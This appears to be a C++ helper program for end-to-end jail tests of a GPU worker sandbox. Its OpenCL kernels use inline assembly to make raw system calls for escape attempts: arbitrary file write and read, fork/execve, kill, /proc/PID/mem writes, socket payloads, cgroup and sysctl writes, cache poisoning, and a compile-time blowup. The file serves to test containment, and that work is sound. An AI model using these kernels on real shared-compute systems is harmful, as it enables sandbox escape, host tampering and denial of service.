// A hostile but unmodified-style OpenCL program for the worker-jail tests (jail_e2e_test.cpp). On
// PoCL's CPU device a kernel is native code in the partition's worker (gpup-vmwp), and OpenCL C
// there accepts GNU inline assembly, so these kernels make raw x86-64 system calls from inside the
// worker. A buffer's address is a real address in the worker, so paths and data travel in
// __global buffers. Each attack prints the raw results (a value, or a negative errno) as
//   RESULT name=value
// and the test decides from the attack's effect on the host, not from these numbers.
//
//   cl_attack_guest write-file PATH              open(O_CREAT|O_WRONLY|O_TRUNC), write a marker, close
//   cl_attack_guest read-file PATH [N]           open, read up to N bytes (4096); "DATA <hex of the
//                                                first 8>", "DATA-FNV1A64 <hash of all read>"
//   cl_attack_guest exec PATH [ARG...]           fork in the kernel (clone(SIGCHLD) if fork is
//                                                refused); the child execve(PATH, [PATH, ARG...],
//                                                no environment), the kernel prints the child's pid
//   cl_attack_guest kill PID SIG                 kill(PID, SIG)
//   cl_attack_guest proc-mem PID ADDR HEX        /proc/PID/mem O_RDWR: pwrite HEX at ADDR, pread it back
//   cl_attack_guest connect PATH [PAYLOAD]       AF_UNIX connect to PATH, write PAYLOAD (text, or
//                                                "hex:..."), read the reply; "REPLY <hex>"
//   cl_attack_guest cgroup-write PATH VALUE...   open(O_WRONLY) + write VALUE, for each pair in order
//                                                (cgroup v1 wants memsw raised before the limit)
//   cl_attack_guest sysctl-write PATH VALUE...   the same, for /proc/sys files
//   cl_attack_guest cache-poison PATH...         create each PATH (files in PoCL's kernel caches),
//                                                making its missing directories first (mkdir -p)
//   cl_attack_guest make-binary OUTFILE          natively (not a guest): build the write-file kernel
//                                                on the host's PoCL, run it once disarmed so its
//                                                native code exists, save CL_PROGRAM_BINARIES
//   cl_attack_guest binary-write-file BIN PATH   clCreateProgramWithBinary(BIN), then write-file PATH
//   cl_attack_guest hold PATTERN SECONDS         benign victim: a buffer filled with PATTERN; prints
//                                                "ADDR 0x..." (the kernel's view of it) and
//                                                "HOLDING", waits SECONDS or until stdin closes,
//                                                then "INTACT 1" when the buffer is unchanged
// Each guest mode prints "WORKER pid=N uid=N" (getpid/getuid from a kernel: where kernels run, and
// proof that one did) before its attack.
// Exit 0 when the OpenCL calls ran (whatever the system calls returned), 2 for a usage or setup
// error, 3 when an OpenCL call failed after setup (e.g. the worker died under the attack).
#define CL_TARGET_OPENCL_VERSION 300
#include <CL/cl.h>

#include <algorithm>
#include <chrono>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include <poll.h>
#include <unistd.h>

namespace {

// OpenCL C has no `register` storage class (PoCL's clang: "OpenCL C version 3.0 does not support
// the 'register' storage class specifier"), so r10/r8/r9 are loaded inside the asm and clobbered.
const char* kSource = R"CLC(
#define NR_read 0
#define NR_write 1
#define NR_open 2
#define NR_close 3
#define NR_pread64 17
#define NR_pwrite64 18
#define NR_getpid 39
#define NR_socket 41
#define NR_connect 42
#define NR_setsockopt 54
#define NR_clone 56
#define NR_fork 57
#define NR_execve 59
#define NR_kill 62
#define NR_mkdir 83
#define NR_getuid 102
#define NR_exit_group 231

long sys6(long n, long a1, long a2, long a3, long a4, long a5, long a6) {
  long r;
  __asm__ volatile("mov %5, %%r10\n\tmov %6, %%r8\n\tmov %7, %%r9\n\tsyscall"
                   : "=a"(r)
                   : "a"(n), "D"(a1), "S"(a2), "d"(a3), "r"(a4), "r"(a5), "r"(a6)
                   : "rcx", "r8", "r9", "r10", "r11", "memory");
  return r;
}
long sys3(long n, long a1, long a2, long a3) { return sys6(n, a1, a2, a3, 0, 0, 0); }

__kernel void whoami(__global long* out) {
  out[0] = sys3(NR_getpid, 0, 0, 0);
  out[1] = sys3(NR_getuid, 0, 0, 0);
}

// armed == 0 runs nothing: make-binary uses it to get the kernel compiled without an effect.
__kernel void write_path(__global const char* path, __global const char* data, uint len, int flags,
                         uint armed, __global long* out) {
  out[0] = out[1] = out[2] = 0;
  if (!armed) return;
  long fd = sys3(NR_open, (long)path, flags, 0644);
  out[0] = fd;
  if (fd < 0) return;
  out[1] = sys3(NR_write, fd, (long)data, len);
  out[2] = sys3(NR_close, fd, 0, 0);
}

__kernel void read_path(__global const char* path, __global char* buf, uint cap, __global long* out) {
  long fd = sys3(NR_open, (long)path, 0 /* O_RDONLY */, 0);
  out[0] = fd;
  out[1] = 0;
  if (fd < 0) return;
  long total = 0;
  while (total < cap) {
    long r = sys3(NR_read, fd, (long)(buf + total), cap - total);
    if (r <= 0) {
      if (r < 0 && total == 0) total = r;
      break;
    }
    total += r;
  }
  out[1] = total;
  out[2] = sys3(NR_close, fd, 0, 0);
}

// strings: argc NUL-terminated strings back to back; argv: argc + 1 slots, the last one also the
// (empty) environment.
__kernel void spawn(__global const char* strings, uint argc, __global ulong* argv, __global long* out) {
  __global const char* s = strings;
  for (uint i = 0; i < argc; ++i) {
    argv[i] = (ulong)s;
    while (*s) ++s;
    ++s;
  }
  argv[argc] = 0;
  long pid = sys3(NR_fork, 0, 0, 0);
  if (pid == -38 || pid == -1) pid = sys6(NR_clone, 17 /* SIGCHLD */, 0, 0, 0, 0, 0);  // ENOSYS, EPERM
  if (pid == 0) {
    sys3(NR_execve, (long)argv[0], (long)argv, (long)(argv + argc));
    sys3(NR_exit_group, 127, 0, 0);
  }
  out[0] = pid;
}

__kernel void send_signal(long pid, int sig, __global long* out) { out[0] = sys3(NR_kill, pid, sig, 0); }

__kernel void poke(__global const char* path, ulong addr, __global const uchar* data, uint len,
                   __global uchar* back, __global long* out) {
  long fd = sys3(NR_open, (long)path, 2 /* O_RDWR */, 0);
  out[0] = fd;
  out[1] = out[2] = out[3] = 0;
  if (fd < 0) return;
  out[1] = sys6(NR_pwrite64, fd, (long)data, len, (long)addr, 0, 0);
  out[2] = sys6(NR_pread64, fd, (long)back, len, (long)addr, 0, 0);
  out[3] = sys3(NR_close, fd, 0, 0);
}

// line != 0: the reply ends at its first newline (gpupd's JSON lines); else it is what the first
// read returns (the channel handshake's answer is one write).
__kernel void talk(__global const char* path, uint path_len, __global const uchar* payload, uint len,
                   __global uchar* reply, uint cap, uint line, __global uchar* scratch, __global long* out) {
  for (int i = 0; i < 6; ++i) out[i] = 0;
  long fd = sys3(NR_socket, 1 /* AF_UNIX */, 1 | 0x80000 /* SOCK_STREAM|SOCK_CLOEXEC */, 0);
  out[0] = fd;
  if (fd < 0) return;
  scratch[0] = 1;  // sockaddr_un: sun_family AF_UNIX, then the path
  scratch[1] = 0;
  for (uint i = 0; i < path_len; ++i) scratch[2 + i] = path[i];
  scratch[2 + path_len] = 0;
  out[1] = sys3(NR_connect, fd, (long)scratch, 2 + path_len + 1);
  if (out[1] == 0) {
    // A peer that stays silent must not hold the kernel until the TDR: 4 s receive timeout.
    __global long* tv = (__global long*)(scratch + 128);
    tv[0] = 4;
    tv[1] = 0;
    out[2] = sys6(NR_setsockopt, fd, 1 /* SOL_SOCKET */, 20 /* SO_RCVTIMEO */, (long)tv, 16, 0);
    out[3] = len ? sys3(NR_write, fd, (long)payload, len) : 0;
    long total = 0;
    while (total < cap) {
      long r = sys3(NR_read, fd, (long)(reply + total), cap - total);
      if (r <= 0) {
        if (total == 0) total = r;
        break;
      }
      total += r;
      if (!line || reply[total - 1] == '\n') break;  // a binary answer comes in one piece
    }
    out[4] = total;
  }
  out[5] = sys3(NR_close, fd, 0, 0);
}

// mkdir -p of the directories above path (a copy in scratch is cut at each '/'); the last result.
__kernel void make_parents(__global const char* path, uint path_len, __global char* scratch, __global long* out) {
  for (uint i = 0; i <= path_len; ++i) scratch[i] = path[i];
  out[0] = 0;
  for (uint i = 1; i < path_len; ++i) {
    if (scratch[i] != '/') continue;
    scratch[i] = 0;
    out[0] = sys3(NR_mkdir, (long)scratch, 0755, 0);
    scratch[i] = '/';
  }
}

__kernel void address_of(__global uchar* buf, __global ulong* out) { out[0] = (ulong)buf; }

__kernel void count_changed(__global const uchar* buf, __global const uchar* expect, uint n,
                            __global uint* out) {
  uint changed = 0;
  for (uint i = 0; i < n; ++i) changed += buf[i] != expect[i];
  out[0] = changed;
}
)CLC";

constexpr int kOWronly = 01, kOCreat = 0100, kOTrunc = 01000;

struct Cl {
  cl_platform_id platform = nullptr;
  cl_device_id dev = nullptr;
  cl_context ctx = nullptr;
  cl_command_queue q = nullptr;
  cl_program prog = nullptr;
};

void print_build_log(Cl& cl, cl_program prog) {
  size_t n = 0;
  clGetProgramBuildInfo(prog, cl.dev, CL_PROGRAM_BUILD_LOG, 0, nullptr, &n);
  std::string log(n, '\0');
  if (n) clGetProgramBuildInfo(prog, cl.dev, CL_PROGRAM_BUILD_LOG, n, log.data(), nullptr);
  std::printf("BUILD-LOG begin\n%s\nBUILD-LOG end\n", log.c_str());
}

// native: the host's own PoCL platform (make-binary runs outside gpup, beside other ICDs).
bool setup(Cl& cl, bool native) {
  cl_uint n = 0;
  cl_int err = clGetPlatformIDs(0, nullptr, &n);
  if (err != CL_SUCCESS || n == 0) {
    std::printf("SETUP failed: clGetPlatformIDs err=%d platforms=%u\n", err, n);
    return false;
  }
  std::vector<cl_platform_id> platforms(n);
  clGetPlatformIDs(n, platforms.data(), nullptr);
  cl.platform = platforms[0];
  for (auto p : platforms) {
    char name[256] = {};
    clGetPlatformInfo(p, CL_PLATFORM_NAME, sizeof name - 1, name, nullptr);
    if (native && std::strstr(name, "Portable")) cl.platform = p;
  }
  if ((err = clGetDeviceIDs(cl.platform, CL_DEVICE_TYPE_ALL, 1, &cl.dev, nullptr)) != CL_SUCCESS) {
    std::printf("SETUP failed: clGetDeviceIDs err=%d\n", err);
    return false;
  }
  cl.ctx = clCreateContext(nullptr, 1, &cl.dev, nullptr, nullptr, &err);
  if (err != CL_SUCCESS) {
    std::printf("SETUP failed: clCreateContext err=%d\n", err);
    return false;
  }
  cl.q = clCreateCommandQueueWithProperties(cl.ctx, cl.dev, nullptr, &err);
  if (err != CL_SUCCESS) {
    std::printf("SETUP failed: clCreateCommandQueue err=%d\n", err);
    return false;
  }
  return true;
}

bool build_source(Cl& cl) {
  cl_int err;
  cl.prog = clCreateProgramWithSource(cl.ctx, 1, &kSource, nullptr, &err);
  if (err != CL_SUCCESS) {
    std::printf("SETUP failed: clCreateProgramWithSource err=%d\n", err);
    return false;
  }
  if ((err = clBuildProgram(cl.prog, 1, &cl.dev, "", nullptr, nullptr)) != CL_SUCCESS) {
    std::printf("SETUP failed: clBuildProgram err=%d\n", err);
    print_build_log(cl, cl.prog);
    return false;
  }
  return true;
}

// An OpenCL call that failed after setup ends the program with 3 (the test reads the effects).
[[noreturn]] void cl_failed(const char* what, cl_int err) {
  std::printf("CL-ERROR %s err=%d\n", what, err);
  std::fflush(stdout);
  std::exit(3);
}

cl_mem buffer(Cl& cl, size_t size, const void* init = nullptr) {
  cl_int err;
  std::vector<unsigned char> zero;
  if (!init) {
    zero.assign(size, 0);
    init = zero.data();
  }
  cl_mem m = clCreateBuffer(cl.ctx, CL_MEM_READ_WRITE | CL_MEM_COPY_HOST_PTR, size, const_cast<void*>(init), &err);
  if (err != CL_SUCCESS) cl_failed("clCreateBuffer", err);
  return m;
}

// A NUL-terminated string in a buffer.
cl_mem cstring(Cl& cl, const std::string& s) { return buffer(cl, s.size() + 1, s.c_str()); }

std::vector<unsigned char> read_back(Cl& cl, cl_mem m, size_t size) {
  std::vector<unsigned char> v(size);
  cl_int err = clEnqueueReadBuffer(cl.q, m, CL_TRUE, 0, size, v.data(), 0, nullptr, nullptr);
  if (err != CL_SUCCESS) cl_failed("clEnqueueReadBuffer", err);
  return v;
}

// One kernel of the program, its arguments set in order, run as a single work-item.
class Kernel {
 public:
  Kernel(Cl& cl, cl_program prog, const char* name) : cl_(cl) {
    cl_int err;
    k_ = clCreateKernel(prog, name, &err);
    if (err != CL_SUCCESS) cl_failed("clCreateKernel", err);
  }
  ~Kernel() { clReleaseKernel(k_); }
  template <typename T>
  Kernel& arg(const T& v) {
    cl_int err = clSetKernelArg(k_, i_++, sizeof v, &v);
    if (err != CL_SUCCESS) cl_failed("clSetKernelArg", err);
    return *this;
  }
  void run() {
    const size_t one = 1;
    cl_int err = clEnqueueNDRangeKernel(cl_.q, k_, 1, nullptr, &one, &one, 0, nullptr, nullptr);
    if (err == CL_SUCCESS) err = clFinish(cl_.q);
    if (err != CL_SUCCESS) cl_failed("kernel", err);
  }

 private:
  Cl& cl_;
  cl_kernel k_;
  cl_uint i_ = 0;
};

// The raw results of a kernel's system calls.
std::vector<long long> results(Cl& cl, cl_mem out, size_t n) {
  auto bytes = read_back(cl, out, n * 8);
  std::vector<long long> v(n);
  std::memcpy(v.data(), bytes.data(), n * 8);
  return v;
}

void result(const char* name, long long v) {
  if (v < 0 && v > -4096)
    std::printf("RESULT %s=%lld (%s)\n", name, v, std::strerror(static_cast<int>(-v)));
  else
    std::printf("RESULT %s=%lld\n", name, v);
}

std::string hex(const unsigned char* p, size_t n) {
  static const char* d = "0123456789abcdef";
  std::string s;
  for (size_t i = 0; i < n; ++i) {
    s += d[p[i] >> 4];
    s += d[p[i] & 15];
  }
  return s;
}

uint64_t fnv1a64(const unsigned char* p, size_t n) {
  uint64_t h = 0xcbf29ce484222325ull;
  for (size_t i = 0; i < n; ++i) h = (h ^ p[i]) * 0x100000001b3ull;
  return h;
}

bool unhex(const std::string& s, std::vector<unsigned char>* out) {
  if (s.size() % 2) return false;
  for (size_t i = 0; i < s.size(); i += 2) {
    char* end = nullptr;
    std::string b = s.substr(i, 2);
    unsigned long v = std::strtoul(b.c_str(), &end, 16);
    if (*end) return false;
    out->push_back(static_cast<unsigned char>(v));
  }
  return true;
}

void whoami(Cl& cl, cl_program prog) {
  cl_mem out = buffer(cl, 16 * 8);
  Kernel(cl, prog, "whoami").arg(out).run();
  auto r = results(cl, out, 2);
  std::printf("WORKER pid=%lld uid=%lld\n", r[0], r[1]);
  std::fflush(stdout);
  clReleaseMemObject(out);
}

// open(flags) + write(data) + close, from a kernel of `prog`.
void write_path(Cl& cl, cl_program prog, const std::string& path, const std::string& data, int flags) {
  cl_mem p = cstring(cl, path), d = cstring(cl, data), out = buffer(cl, 16 * 8);
  Kernel(cl, prog, "write_path")
      .arg(p)
      .arg(d)
      .arg(static_cast<cl_uint>(data.size()))
      .arg(static_cast<cl_int>(flags))
      .arg(cl_uint{1})
      .arg(out)
      .run();
  auto r = results(cl, out, 3);
  std::printf("PATH %s\n", path.c_str());
  result("open", r[0]);
  result("write", r[1]);
  result("close", r[2]);
}

// A planted directory is as good as a planted file: the cache's owner will use it.
void make_parents(Cl& cl, const std::string& path) {
  cl_mem p = cstring(cl, path), scratch = buffer(cl, path.size() + 1), out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "make_parents").arg(p).arg(static_cast<cl_uint>(path.size())).arg(scratch).arg(out).run();
  result("mkdir", results(cl, out, 1)[0]);
}

int read_file(Cl& cl, const std::string& path, size_t cap) {
  cl_mem p = cstring(cl, path), buf = buffer(cl, cap), out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "read_path").arg(p).arg(buf).arg(static_cast<cl_uint>(cap)).arg(out).run();
  auto r = results(cl, out, 3);
  result("open", r[0]);
  result("read", r[1]);
  auto data = read_back(cl, buf, cap);
  const size_t n = r[1] > 0 ? static_cast<size_t>(r[1]) : 0;
  // The first bytes and a hash of all of them, not the content: the test log must not end up
  // holding the secret the attack was after.
  std::printf("DATA %s\n", hex(data.data(), std::min<size_t>(n, 8)).c_str());
  std::printf("DATA-FNV1A64 %016llx\n", static_cast<unsigned long long>(fnv1a64(data.data(), n)));
  return 0;
}

int exec(Cl& cl, const std::vector<std::string>& argv) {
  std::string strings;
  for (auto& a : argv) strings.append(a).push_back('\0');
  cl_mem s = buffer(cl, strings.size(), strings.data()), slots = buffer(cl, (argv.size() + 1) * 8),
         out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "spawn").arg(s).arg(static_cast<cl_uint>(argv.size())).arg(slots).arg(out).run();
  result("fork", results(cl, out, 1)[0]);
  return 0;
}

int send_signal(Cl& cl, long pid, int sig) {
  cl_mem out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "send_signal").arg(static_cast<cl_long>(pid)).arg(static_cast<cl_int>(sig)).arg(out).run();
  result("kill", results(cl, out, 1)[0]);
  return 0;
}

int proc_mem(Cl& cl, long pid, unsigned long long addr, const std::vector<unsigned char>& bytes) {
  const std::string path = "/proc/" + std::to_string(pid) + "/mem";
  cl_mem p = cstring(cl, path), d = buffer(cl, bytes.size(), bytes.data()), back = buffer(cl, bytes.size()),
         out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "poke")
      .arg(p)
      .arg(static_cast<cl_ulong>(addr))
      .arg(d)
      .arg(static_cast<cl_uint>(bytes.size()))
      .arg(back)
      .arg(out)
      .run();
  auto r = results(cl, out, 4);
  result("open", r[0]);
  result("pwrite", r[1]);
  result("pread", r[2]);
  auto b = read_back(cl, back, bytes.size());
  std::printf("READBACK %s\n", hex(b.data(), r[2] > 0 ? static_cast<size_t>(r[2]) : 0).c_str());
  return 0;
}

int connect_to(Cl& cl, const std::string& path, const std::string& payload_arg) {
  std::vector<unsigned char> payload;
  if (payload_arg.rfind("hex:", 0) == 0) {
    if (!unhex(payload_arg.substr(4), &payload)) {
      std::fprintf(stderr, "bad hex payload\n");
      return 2;
    }
  } else {
    payload.assign(payload_arg.begin(), payload_arg.end());
  }
  if (path.size() > 107) {
    std::fprintf(stderr, "path too long for sockaddr_un\n");
    return 2;
  }
  const bool line = !payload.empty() && payload.back() == '\n';
  constexpr size_t kCap = 4096;
  cl_mem p = cstring(cl, path), d = buffer(cl, payload.size() + 1, payload.empty() ? nullptr : payload.data()),
         reply = buffer(cl, kCap), scratch = buffer(cl, 256), out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "talk")
      .arg(p)
      .arg(static_cast<cl_uint>(path.size()))
      .arg(d)
      .arg(static_cast<cl_uint>(payload.size()))
      .arg(reply)
      .arg(static_cast<cl_uint>(kCap))
      .arg(static_cast<cl_uint>(line))
      .arg(scratch)
      .arg(out)
      .run();
  auto r = results(cl, out, 6);
  result("socket", r[0]);
  result("connect", r[1]);
  result("setsockopt", r[2]);
  result("write", r[3]);
  result("read", r[4]);
  auto b = read_back(cl, reply, kCap);
  const size_t n = r[4] > 0 ? static_cast<size_t>(r[4]) : 0;
  std::printf("REPLY %s\n", hex(b.data(), n).c_str());
  std::string text;
  for (size_t i = 0; i < n; ++i) text += (b[i] >= 0x20 && b[i] < 0x7f) ? static_cast<char>(b[i]) : '.';
  std::printf("REPLY-TEXT %s\n", text.c_str());
  return 0;
}

std::string slurp(const std::string& path, bool* ok) {
  std::ifstream in(path, std::ios::binary);
  *ok = static_cast<bool>(in);
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// Natively: the write-file kernel built and run once disarmed (so PoCL has compiled its native
// code), then the program's binary saved.
int make_binary(Cl& cl, const std::string& outfile) {
  if (!build_source(cl)) return 2;
  cl_mem p = cstring(cl, "/nonexistent"), d = cstring(cl, "x"), out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "write_path").arg(p).arg(d).arg(cl_uint{1}).arg(cl_int{0}).arg(cl_uint{0}).arg(out).run();
  size_t size = 0;
  cl_int err = clGetProgramInfo(cl.prog, CL_PROGRAM_BINARY_SIZES, sizeof size, &size, nullptr);
  if (err != CL_SUCCESS || size == 0) {
    std::printf("BINARY sizes err=%d size=%zu\n", err, size);
    return 2;
  }
  std::vector<unsigned char> bin(size);
  unsigned char* ptr = bin.data();
  if ((err = clGetProgramInfo(cl.prog, CL_PROGRAM_BINARIES, sizeof ptr, &ptr, nullptr)) != CL_SUCCESS) {
    std::printf("BINARY err=%d\n", err);
    return 2;
  }
  std::ofstream(outfile, std::ios::binary).write(reinterpret_cast<const char*>(bin.data()), static_cast<std::streamsize>(size));
  std::printf("BINARY bytes=%zu saved to %s\n", size, outfile.c_str());
  return 0;
}

// A refusal to load or build the binary is an outcome, printed, not an error of this program.
int binary_write_file(Cl& cl, const std::string& binfile, const std::string& path) {
  bool ok = false;
  const std::string bin = slurp(binfile, &ok);
  if (!ok || bin.empty()) {
    std::printf("SETUP failed: cannot read %s\n", binfile.c_str());
    return 2;
  }
  const size_t len = bin.size();
  const auto* ptr = reinterpret_cast<const unsigned char*>(bin.data());
  cl_int status = 0, err = 0;
  cl_program prog = clCreateProgramWithBinary(cl.ctx, 1, &cl.dev, &len, &ptr, &status, &err);
  std::printf("RESULT create_with_binary=%d binary_status=%d\n", err, status);
  if (err != CL_SUCCESS) {
    std::printf("BINARY refused at creation\n");
    return 0;
  }
  err = clBuildProgram(prog, 1, &cl.dev, "", nullptr, nullptr);
  std::printf("RESULT build=%d\n", err);
  if (err != CL_SUCCESS) {
    print_build_log(cl, prog);
    std::printf("BINARY refused at build\n");
    return 0;
  }
  whoami(cl, prog);
  write_path(cl, prog, path, "gpup-jail-probe\n", kOWronly | kOCreat | kOTrunc);
  return 0;
}

int hold(Cl& cl, const std::string& pattern, double seconds) {
  constexpr size_t kSize = 4096;
  std::vector<unsigned char> expect(kSize);
  for (size_t i = 0; i < kSize; ++i) expect[i] = static_cast<unsigned char>(pattern[i % pattern.size()]);
  cl_mem buf = buffer(cl, kSize, expect.data()), ref = buffer(cl, kSize, expect.data()), out = buffer(cl, 16 * 8);
  Kernel(cl, cl.prog, "address_of").arg(buf).arg(out).run();
  std::printf("ADDR 0x%llx\n", static_cast<unsigned long long>(results(cl, out, 1)[0]));
  std::printf("HOLDING %zu bytes\n", kSize);
  std::fflush(stdout);
  // Until the time is up or stdin closes (the test's signal that the attack is over).
  pollfd p{0, POLLIN, 0};
  const int ms = static_cast<int>(seconds * 1000);
  if (poll(&p, 1, ms) > 0) {
    char c;
    while (read(0, &c, 1) > 0) {
    }
  }
  auto host_view = read_back(cl, buf, kSize);
  size_t host_changed = 0;
  for (size_t i = 0; i < kSize; ++i) host_changed += host_view[i] != expect[i];
  Kernel(cl, cl.prog, "count_changed").arg(buf).arg(ref).arg(static_cast<cl_uint>(kSize)).arg(out).run();
  auto dev = read_back(cl, out, 4);
  cl_uint device_changed;
  std::memcpy(&device_changed, dev.data(), 4);
  std::printf("CHANGED host=%zu device=%u\n", host_changed, device_changed);
  std::printf("INTACT %d\n", host_changed == 0 && device_changed == 0 ? 1 : 0);
  return 0;
}

// A program that is slow to compile and small to send: each macro level doubles the statements the
// compiler sees, so depth 20 is a million of them (minutes of PoCL build time on this machine
// kind; depth 14 takes about 3 s natively) from a source of a few hundred bytes.
int heavy_build(Cl& cl, int depth) {
  std::string src = "#define S0 x = x * 3u + (x >> 7);\n";
  for (int i = 1; i <= depth; ++i) src += "#define S" + std::to_string(i) + " S" + std::to_string(i - 1) + " S" + std::to_string(i - 1) + "\n";
  src += "__kernel void heavy(__global uint* p) { uint x = p[get_global_id(0)]; S" + std::to_string(depth) +
         " p[get_global_id(0)] = x; }\n";
  const char* text = src.c_str();
  cl_int err = CL_SUCCESS;
  cl_program prog = clCreateProgramWithSource(cl.ctx, 1, &text, nullptr, &err);
  if (err != CL_SUCCESS) {
    std::printf("SETUP failed: clCreateProgramWithSource err=%d\n", err);
    return 2;
  }
  std::printf("BUILDING depth=%d\n", depth);
  std::fflush(stdout);
  const auto t0 = std::chrono::steady_clock::now();
  err = clBuildProgram(prog, 1, &cl.dev, "", nullptr, nullptr);
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
  std::printf("RESULT build=%d ms=%lld\n", err, static_cast<long long>(ms));
  if (err != CL_SUCCESS) print_build_log(cl, prog);
  return 0;
}

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s write-file PATH | read-file PATH [N] | exec PATH [ARG...] | kill PID SIG |\n"
               "  proc-mem PID ADDR HEX | connect PATH [PAYLOAD] | cgroup-write PATH VALUE... |\n"
               "  sysctl-write PATH VALUE... | cache-poison PATH... | make-binary OUTFILE |\n"
               "  binary-write-file BINFILE PATH | hold PATTERN SECONDS | heavy-build DEPTH\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage(argv[0]);
  const std::string mode = argv[1];
  std::vector<std::string> args(argv + 2, argv + argc);
  std::printf("PID %d\n", static_cast<int>(getpid()));
  std::fflush(stdout);
  Cl cl;
  if (mode == "make-binary") {
    if (args.size() != 1) return usage(argv[0]);
    if (!setup(cl, /*native=*/true)) return 2;
    return make_binary(cl, args[0]);
  }
  if (mode == "heavy-build") {
    if (args.size() != 1) return usage(argv[0]);
    if (!setup(cl, false)) return 2;
    return heavy_build(cl, std::atoi(args[0].c_str()));
  }
  if (mode == "binary-write-file") {
    if (args.size() != 2) return usage(argv[0]);
    if (!setup(cl, false)) return 2;
    return binary_write_file(cl, args[0], args[1]);
  }
  if (!setup(cl, false) || !build_source(cl)) return 2;
  whoami(cl, cl.prog);
  int rc = 2;
  if (mode == "write-file" && args.size() == 1) {
    write_path(cl, cl.prog, args[0], "gpup-jail-probe\n", kOWronly | kOCreat | kOTrunc);
    rc = 0;
  } else if (mode == "read-file" && (args.size() == 1 || args.size() == 2)) {
    rc = read_file(cl, args[0], args.size() == 2 ? std::strtoul(args[1].c_str(), nullptr, 0) : 4096);
  } else if (mode == "exec" && !args.empty()) {
    rc = exec(cl, args);
  } else if (mode == "kill" && args.size() == 2) {
    rc = send_signal(cl, std::strtol(args[0].c_str(), nullptr, 0), std::atoi(args[1].c_str()));
  } else if (mode == "proc-mem" && args.size() == 3) {
    std::vector<unsigned char> bytes;
    if (!unhex(args[2], &bytes) || bytes.empty()) return usage(argv[0]);
    rc = proc_mem(cl, std::strtol(args[0].c_str(), nullptr, 0), std::strtoull(args[1].c_str(), nullptr, 0), bytes);
  } else if (mode == "connect" && (args.size() == 1 || args.size() == 2)) {
    rc = connect_to(cl, args[0], args.size() == 2 ? args[1] : std::string());
  } else if ((mode == "cgroup-write" || mode == "sysctl-write") && args.size() >= 2 && args.size() % 2 == 0) {
    for (size_t i = 0; i < args.size(); i += 2) write_path(cl, cl.prog, args[i], args[i + 1], kOWronly);
    rc = 0;
  } else if (mode == "cache-poison" && !args.empty()) {
    for (auto& path : args) {
      make_parents(cl, path);
      write_path(cl, cl.prog, path, "gpup-jail-probe\n", kOWronly | kOCreat | kOTrunc);
    }
    rc = 0;
  } else if (mode == "hold" && args.size() == 2 && !args[0].empty()) {
    rc = hold(cl, args[0], std::atof(args[1].c_str()));
  } else {
    return usage(argv[0]);
  }
  std::fflush(stdout);
  return rc;
}
